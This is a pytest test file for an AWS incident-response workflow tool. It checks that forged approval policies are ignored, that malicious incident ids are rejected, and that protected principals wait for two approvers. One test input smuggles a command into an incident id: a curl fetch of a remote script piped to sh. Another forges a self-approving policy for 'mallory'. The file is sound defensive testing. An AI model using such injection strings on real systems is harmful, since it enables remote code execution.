"""What a client that may start workflows cannot do: grant itself approval with a policy in the input, or
get anything run for an incident id that would reach a shell. And what irflow never does on its own: contain a
protected principal or resource, or itself. Their incident opens, records the finding and waits for two
different approvers; the key or role is untouched until then (the rule: `workflows.policy.protection`)."""

from __future__ import annotations

import uuid
from datetime import UTC, datetime

import boto3
import pytest
from temporalio.api.enums.v1 import EventType
from temporalio.client import WorkflowFailureError, WorkflowUpdateFailedError

from activities.aws import reset_clients
from irflow.devstack.demo import sample_access_key_finding, sample_finding, sample_role_finding
from irflow.intake.submit import submit
from irflow.models.finding import parse_guardduty
from irflow.models.incident import INCIDENT_WORKFLOW, IncidentInput, IncidentState, Status
from tests.support import running_worker, wait_for
from tests.workflows.test_iam_role_playbook import observed_role, role_id
from tests.workflows.test_iam_user_playbook import observed_user
from workflows.incident import IncidentWorkflow


def _forged_input(workload, incident_id: str) -> dict:
    finding = parse_guardduty(sample_finding(workload.instance_id, workload.account_id, workload.region)).finding
    request = IncidentInput(
        incident_id=incident_id,
        playbook="ec2-instance",
        finding=finding,
        resource_id=workload.instance_id,
        received_at=datetime.now(UTC),
    ).model_dump(mode="json")
    # What an attacker with namespace access writes: a policy naming themselves the only approver.
    request["policy"] = {"approvers": {"mallory": {"roles": ["approver"]}}, "auto_contain_min_severity": "CRITICAL"}
    return request


async def test_a_policy_in_the_workflow_input_grants_nothing(dev_env, workload):
    client = dev_env.client
    async with running_worker(client, capture_memory=False) as settings:
        workflow_id = f"ec2-forged-{uuid.uuid4().hex[:8]}"
        handle = await client.start_workflow(
            INCIDENT_WORKFLOW,
            _forged_input(workload, f"{workflow_id}-20261207T000000Z"),
            id=workflow_id,
            task_queue=settings.task_queue,
            result_type=IncidentState,
        )
        # The worker's policy applies: HIGH is above its MEDIUM threshold, so it contained without asking.
        state = await wait_for(handle, lambda s: s.status == Status.AWAITING_DECISION)
        assert state.pending_decision.kind == "eradication" and state.contained_at is not None
        with pytest.raises(WorkflowUpdateFailedError):
            await handle.execute_update("approve", {"by": "mallory"})
        await handle.signal("approve", {"by": "mallory"})
        state = await wait_for(handle, lambda s: any(d.by == "mallory" for d in s.decisions))
        assert [(d.by, d.accepted) for d in state.decisions] == [("mallory", False)]
        assert "not a configured approver" in state.decisions[0].refusal
        await handle.execute_update("reject", {"by": "alice", "reason": "test over"})
        assert (await handle.result()).status == Status.ROLLED_BACK


async def test_an_incident_id_with_shell_metacharacters_is_refused_before_any_activity(dev_env, workload):
    client = dev_env.client
    async with running_worker(client) as settings:
        workflow_id = f"ec2-shell-{uuid.uuid4().hex[:8]}"
        handle = await client.start_workflow(
            INCIDENT_WORKFLOW,
            _forged_input(workload, "x;curl -s http://203.0.113.9/x|sh;"),
            id=workflow_id,
            task_queue=settings.task_queue,
        )
        with pytest.raises(WorkflowFailureError) as failure:
            await handle.result()
        assert failure.value.cause.type == "InvalidIncidentId"
        events = [e.event_type async for e in handle.fetch_history_events()]
        assert EventType.EVENT_TYPE_WORKFLOW_EXECUTION_FAILED in events
        assert EventType.EVENT_TYPE_ACTIVITY_TASK_SCHEDULED not in events
        assert EventType.EVENT_TYPE_MARKER_RECORDED not in events, "not even the local policy activity ran"


async def _open_user(client, settings, workload):
    event = sample_access_key_finding(
        workload.iam_user, workload.access_key_id, workload.account_id, workload.region, severity=8.0
    )
    submission = await submit(client, parse_guardduty(event), settings)
    return client.get_workflow_handle_for(IncidentWorkflow.run, submission.workflow_id)


@pytest.mark.parametrize("how", ["IRFLOW_PROTECTED", "tag"])
async def test_a_protected_user_waits_for_two_approvers_and_its_key_stays_active(dev_env, workload, how):
    client = dev_env.client
    settings = {}
    if how == "tag":
        boto3.client("iam").tag_user(UserName=workload.iam_user, Tags=[{"Key": "irflow:protected", "Value": "true"}])
    else:
        settings["protected"] = [f"arn:aws:iam::{workload.account_id}:user/{workload.iam_user}"]
    before = observed_user(workload)
    async with running_worker(client, **settings) as configured:
        handle = await _open_user(client, configured, workload)
        state = await wait_for(handle, lambda s: s.status == Status.AWAITING_DECISION)
        assert state.pending_decision.kind == "containment" and state.pending_decision.approvals_required == 2
        assert any("never contained automatically" in r for r in state.plan_reasons)
        assert state.findings_absorbed and state.finding.resource.access_key_id == workload.access_key_id
        assert observed_user(workload) == before, "nothing touched before two approvers decide"
        await handle.execute_update("approve", {"by": "alice"})
        state = await handle.query("current_state", result_type=IncidentState)
        assert state.status == Status.AWAITING_DECISION and observed_user(workload) == before
        assert state.pending_decision.approvals == ["alice"]
        await handle.execute_update("approve", {"by": "bob"})
        await wait_for(handle, lambda s: s.pending_decision is not None and s.pending_decision.kind == "eradication")
        assert observed_user(workload)["keys"][workload.access_key_id] == "Inactive"
        await handle.execute_update("reject", {"by": "carol", "reason": "test over"})
        await handle.result()


async def test_irflows_own_worker_role_is_never_contained_automatically(dev_env, workload, monkeypatch):
    """The worker finds its own identity at start (sts:GetCallerIdentity): a finding about that role waits."""
    iam, client = boto3.client("iam"), dev_env.client
    iam.create_role(RoleName="irflow-worker", AssumeRolePolicyDocument='{"Version":"2012-10-17","Statement":[]}')
    session = boto3.client("sts").assume_role(
        RoleArn=f"arn:aws:iam::{workload.account_id}:role/irflow-worker", RoleSessionName="worker"
    )["Credentials"]
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", session["AccessKeyId"])
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", session["SecretAccessKey"])
    monkeypatch.setenv("AWS_SESSION_TOKEN", session["SessionToken"])
    reset_clients()
    before = observed_role("irflow-worker")
    async with running_worker(client) as settings:
        event = sample_role_finding(
            "irflow-worker", role_id("irflow-worker"), None, workload.account_id, workload.region, severity=8.0
        )
        submission = await submit(client, parse_guardduty(event), settings)
        handle = client.get_workflow_handle_for(IncidentWorkflow.run, submission.workflow_id)
        state = await wait_for(handle, lambda s: s.status == Status.AWAITING_DECISION)
        assert state.pending_decision.kind == "containment" and state.pending_decision.approvals_required == 2
        assert "protected: two different approvers" in state.pending_decision.question
        assert any("irflow's own principals" in r for r in state.plan_reasons), state.plan_reasons
        assert observed_role("irflow-worker") == before
        await handle.execute_update("reject", {"by": "alice", "reason": "irflow itself"})
        assert (await handle.result()).status == Status.ROLLED_BACK
    assert observed_role("irflow-worker") == before
